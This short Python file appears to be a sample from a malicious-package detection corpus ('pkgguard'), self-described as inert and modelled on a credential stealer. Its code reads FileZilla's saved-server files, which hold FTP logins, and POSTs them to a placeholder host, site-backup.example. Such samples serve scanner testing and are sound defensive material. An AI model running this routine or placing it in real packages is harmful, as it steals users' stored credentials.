# pkgguard corpus 559 (credentials), modelled on [stealer-profile]; inert, never run.
import os
import urllib.request

base = os.path.join(os.environ.get("APPDATA", os.path.expanduser("~/.config")), "FileZilla")
parts = []
for name in ("sitemanager.xml", "recentservers.xml"):
    path = os.path.join(base, name)
    if os.path.exists(path):
        with open(path, "rb") as fh:
            parts.append(fh.read())
if parts:
    urllib.request.urlopen("https://site-backup.example/fz", data=b"\n".join(parts), timeout=10)
